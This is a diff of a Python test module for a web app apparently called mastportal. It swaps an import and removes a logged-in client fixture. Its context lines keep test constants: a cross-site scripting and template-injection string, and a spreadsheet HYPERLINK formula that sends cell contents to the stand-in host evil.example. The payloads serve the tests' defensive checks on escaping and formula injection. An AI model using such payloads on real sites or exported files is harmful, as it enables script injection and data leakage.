@@ -31,7 +31,7 @@ from mastportal.mast.fields import fields_of
 from mastportal.search import keep, results
 from mastportal.search.models import ResultSet, Search
 from mastportal.work import Phase
-from tests.conftest import client_of
+from tests.people import client_of
 
 EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{ 7|add:7 }}'''\"\"\"\n]]>*/-->"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
@@ -88,14 +88,6 @@ def search(alice: User, sandbox: object) -> Search:
     Search.objects.filter(pk=asked.search.pk).update(current=asked.result, words=f"Rows of {EVIL}")
     SavedSearch.objects.create(name=EVIL[:100], note=EVIL, owner=alice, search=asked.search)
     return Search.objects.get(pk=asked.search.pk)
-
-
-@pytest.fixture
-def web(alice: User, search: Search) -> Client:
-    """Raises whatever a view raises."""
-    client = Client()
-    client.force_login(alice)
-    return client
 
 
 class Reader(HTMLParser):
